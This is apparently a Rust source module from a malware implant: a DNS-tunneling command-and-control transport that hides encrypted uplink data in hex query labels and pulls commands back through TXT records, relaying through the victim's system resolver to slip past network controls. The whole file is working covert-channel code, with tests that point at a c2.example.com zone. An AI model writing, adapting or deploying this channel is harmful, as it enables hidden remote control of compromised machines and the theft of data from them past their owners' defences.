//! DNS tunneling carrier. Traffic hides inside lookups against a parent
//! zone the server is authoritative for: uplink bytes ride hex-encoded
//! in query labels, downlink bytes come back base64-encoded in TXT
//! records. Payloads are sealed with a per-session AES-256-GCM key
//! obtained during the connect round-trip.

use super::{get_poll_interval, ConnectError, Connection, QUEUE_SIZE};
use crate::{envelope::Envelope, state};
use base64::{engine::general_purpose::STANDARD as BASE64, Engine};
use hickory_resolver::{
    config::{ResolverConfig, ResolverOpts},
    error::{ResolveError, ResolveErrorKind},
    TokioAsyncResolver,
};
use log::debug;
use prost::Message;
use rand::Rng;
use ring::{aead, error::Unspecified};
use std::sync::Arc;
use tokio::{sync::mpsc, time};
use tokio_util::sync::CancellationToken;
use url::Url;

/// Bytes of sealed payload carried per query label, 62 hex characters
/// out of the 63 a label allows
const LABEL_BYTES: usize = 31;

/// Data labels per query, keeping the whole name comfortably inside the
/// 253 character limit alongside the session and parent labels
const LABELS_PER_QUERY: usize = 2;

/// Subdomain queried to establish a session
const SESSION_SUBDOMAIN: &str = "_sk";

/// Subdomain carrying uplink chunks
const UPLINK_SUBDOMAIN: &str = "u";

/// Subdomain polled for downlink traffic
const POLL_SUBDOMAIN: &str = "p";

/// Established DNS tunnel session
struct DnsSession {
    resolver: TokioAsyncResolver,
    /// Parent zone the server answers for, without trailing dot
    parent: String,
    session_id: String,
    key: aead::LessSafeKey,
}

impl DnsSession {
    /// Establishes a session against the parent zone: one TXT lookup
    /// whose reply carries `<session id>.<base64 session key>`
    async fn connect(resolver: TokioAsyncResolver, parent: &str) -> Result<DnsSession, ConnectError> {
        let parent = parent.trim_end_matches('.').to_string();
        let nonce: [u8; 8] = rand::thread_rng().gen();
        let name = format!("{}.{SESSION_SUBDOMAIN}.{parent}.", hex::encode(nonce));

        let lookup = resolver.txt_lookup(name).await?;
        let reply = lookup
            .iter()
            .next()
            .map(txt_to_string)
            .ok_or(ConnectError::DnsSession)?;

        let (session_id, key) = reply.split_once('.').ok_or(ConnectError::DnsSession)?;
        let key = BASE64
            .decode(key)
            .map_err(|_| ConnectError::DnsSession)?;
        let key = aead::UnboundKey::new(&aead::AES_256_GCM, &key)
            .map_err(|_| ConnectError::DnsSession)?;

        Ok(DnsSession {
            resolver,
            parent,
            session_id: session_id.to_string(),
            key: aead::LessSafeKey::new(key),
        })
    }

    /// Seals and sends one envelope as a series of chunk queries
    /// followed by a commit query carrying the chunk count
    async fn send_envelope(&self, envelope: &Envelope) {
        let sealed = match seal(&self.key, &envelope.encode_to_vec()) {
            Ok(value) => value,
            Err(_) => return,
        };

        let names = uplink_names(&self.session_id, &self.parent, &sealed);
        for name in names {
            // Replies to uplink queries carry nothing; resolution errors
            // surface soon enough through the poll side
            if let Err(err) = self.resolver.txt_lookup(name).await {
                debug!("[dns] Uplink query failed: {err}");
                return;
            }
        }
    }

    /// Polls the parent zone once for queued downlink traffic
    async fn poll_once(&self) -> Result<Option<Envelope>, ResolveError> {
        let nonce: [u8; 4] = rand::thread_rng().gen();
        let name = format!(
            "{}.{}.{POLL_SUBDOMAIN}.{}.",
            hex::encode(nonce),
            self.session_id,
            self.parent
        );

        let lookup = match self.resolver.txt_lookup(name).await {
            Ok(value) => value,
            // An empty zone answer means nothing was queued
            Err(err) if matches!(err.kind(), ResolveErrorKind::NoRecordsFound { .. }) => {
                return Ok(None)
            }
            Err(err) => return Err(err),
        };

        let body: String = lookup.iter().map(txt_to_string).collect();
        if body.is_empty() {
            return Ok(None);
        }

        let sealed = match BASE64.decode(body.as_bytes()) {
            Ok(value) => value,
            Err(err) => {
                debug!("[dns] Discarding undecodable downlink record: {err}");
                return Ok(None);
            }
        };
        let plaintext = match open(&self.key, sealed) {
            Ok(value) => value,
            Err(_) => {
                debug!("[dns] Discarding downlink record that failed to open");
                return Ok(None);
            }
        };

        match Envelope::decode(plaintext.as_slice()) {
            Ok(envelope) => Ok(Some(envelope)),
            Err(err) => {
                debug!("[dns] Failed to decode envelope: {err}");
                Ok(None)
            }
        }
    }
}

/// Flattens a TXT record's character strings
fn txt_to_string(txt: &hickory_resolver::proto::rr::rdata::TXT) -> String {
    txt.txt_data()
        .iter()
        .map(|data| String::from_utf8_lossy(data).into_owned())
        .collect()
}

/// Builds the uplink query names for a sealed payload: numbered chunk
/// queries then a commit query carrying the chunk count
fn uplink_names(session_id: &str, parent: &str, sealed: &[u8]) -> Vec<String> {
    let mut names = Vec::new();
    let mut chunks = 0usize;

    for (sequence, chunk) in sealed.chunks(LABEL_BYTES * LABELS_PER_QUERY).enumerate() {
        let labels: Vec<String> = chunk.chunks(LABEL_BYTES).map(hex::encode).collect();
        names.push(format!(
            "{sequence:x}.{}.{session_id}.{UPLINK_SUBDOMAIN}.{parent}.",
            labels.join(".")
        ));
        chunks += 1;
    }

    names.push(format!(
        "{chunks:x}.c.{session_id}.{UPLINK_SUBDOMAIN}.{parent}.",
    ));
    names
}

/// Seals a payload with the session key, prepending the random nonce
fn seal(key: &aead::LessSafeKey, data: &[u8]) -> Result<Vec<u8>, Unspecified> {
    let nonce_bytes: [u8; aead::NONCE_LEN] = rand::thread_rng().gen();
    let nonce = aead::Nonce::assume_unique_for_key(nonce_bytes);

    let mut sealed = data.to_vec();
    key.seal_in_place_append_tag(nonce, aead::Aad::empty(), &mut sealed)?;

    let mut output = nonce_bytes.to_vec();
    output.append(&mut sealed);
    Ok(output)
}

/// Opens a sealed payload, the inverse of [`seal`]
fn open(key: &aead::LessSafeKey, mut sealed: Vec<u8>) -> Result<Vec<u8>, Unspecified> {
    if sealed.len() < aead::NONCE_LEN {
        return Err(Unspecified);
    }

    let mut nonce_bytes = [0u8; aead::NONCE_LEN];
    nonce_bytes.copy_from_slice(&sealed[..aead::NONCE_LEN]);
    let nonce = aead::Nonce::assume_unique_for_key(nonce_bytes);

    let mut body = sealed.split_off(aead::NONCE_LEN);
    let plaintext = key.open_in_place(nonce, aead::Aad::empty(), &mut body)?;
    Ok(plaintext.to_vec())
}

pub(super) async fn connect(uri: &Url) -> Result<Arc<Connection>, ConnectError> {
    let parent = uri.host_str().ok_or(ConnectError::InvalidUri)?;
    debug!("[dns] Connecting via parent zone {parent}");

    // The system resolver is the whole point of this carrier: queries
    // recurse through infrastructure the implant host already trusts
    let resolver = match TokioAsyncResolver::tokio_from_system_conf() {
        Ok(value) => value,
        Err(_) => TokioAsyncResolver::tokio(ResolverConfig::default(), ResolverOpts::default()),
    };

    let session = Arc::new(DnsSession::connect(resolver, parent).await?);
    debug!("[dns] Session {} established", session.session_id);

    let (send_tx, mut send_rx) = mpsc::channel::<Envelope>(QUEUE_SIZE);
    let (recv_tx, recv_rx) = mpsc::channel::<Envelope>(QUEUE_SIZE);
    let ctrl = CancellationToken::new();

    let connection = Connection::new(
        send_tx,
        recv_rx,
        ctrl.clone(),
        Box::new(|| debug!("[dns] Lost connection, cleaning up")),
    );

    // Writer: drains the outbound queue into chunked covert queries
    let writer_ctrl = ctrl.clone();
    let writer_connection = connection.clone();
    let writer_session = session.clone();
    tokio::spawn(async move {
        loop {
            tokio::select! {
                _ = writer_ctrl.cancelled() => break,
                envelope = send_rx.recv() => {
                    match envelope {
                        Some(envelope) => writer_session.send_envelope(&envelope).await,
                        None => break,
                    }
                }
            }
        }

        writer_connection.cleanup();
    });

    // Poller: fetches downlink traffic at the configured interval until
    // cancelled or the zone starts failing
    let poll_interval = get_poll_interval();
    let poller_connection = connection.clone();
    tokio::spawn(async move {
        loop {
            tokio::select! {
                _ = ctrl.cancelled() => break,
                _ = time::sleep(poll_interval) => {}
            }

            match session.poll_once().await {
                Ok(Some(envelope)) => {
                    let sent = tokio::select! {
                        _ = ctrl.cancelled() => break,
                        sent = recv_tx.send(envelope) => sent,
                    };
                    if sent.is_err() {
                        break;
                    }
                }
                Ok(None) => {}
                Err(err) => {
                    debug!("[dns] Poll failed: {err}");
                    break;
                }
            }
        }

        poller_connection.cleanup();
    });

    state::set_active_connection(connection.clone());
    Ok(connection)
}

#[cfg(test)]
mod test {
    use super::{open, seal, uplink_names, LABELS_PER_QUERY, LABEL_BYTES};
    use rand::Rng;
    use ring::aead;

    fn test_key() -> aead::LessSafeKey {
        let bytes: [u8; 32] = rand::thread_rng().gen();
        aead::LessSafeKey::new(aead::UnboundKey::new(&aead::AES_256_GCM, &bytes).unwrap())
    }

    /// Tests that sealed payloads open back to the original bytes
    #[test]
    fn test_seal_open_roundtrip() {
        let key = test_key();
        let sealed = seal(&key, b"covert payload").unwrap();
        assert_ne!(sealed[aead::NONCE_LEN..], b"covert payload"[..]);

        let opened = open(&key, sealed).unwrap();
        assert_eq!(opened, b"covert payload");
    }

    /// Tests that tampered payloads and foreign keys fail to open
    #[test]
    fn test_open_rejects_tampering() {
        let key = test_key();
        let mut sealed = seal(&key, b"covert payload").unwrap();
        *sealed.last_mut().unwrap() ^= 0x01;
        assert!(open(&key, sealed).is_err());

        let sealed = seal(&key, b"covert payload").unwrap();
        assert!(open(&test_key(), sealed).is_err());

        assert!(open(&key, vec![0u8; 4]).is_err());
    }

    /// Tests that uplink names chunk correctly, stay inside DNS limits
    /// and end with the commit query
    #[test]
    fn test_uplink_names() {
        let payload = vec![0xAB; LABEL_BYTES * LABELS_PER_QUERY + 5];
        let names = uplink_names("f00d", "c2.example.com", &payload);

        // Two chunk queries and the commit
        assert_eq!(names.len(), 3);
        assert!(names[0].starts_with("0."));
        assert!(names[1].starts_with("1."));
        assert_eq!(names[2], "2.c.f00d.u.c2.example.com.");

        for name in &names {
            assert!(name.len() <= 253);
            assert!(name
                .trim_end_matches('.')
                .split('.')
                .all(|label| label.len() <= 63));
            assert!(name.ends_with(".u.c2.example.com."));
        }
    }
}
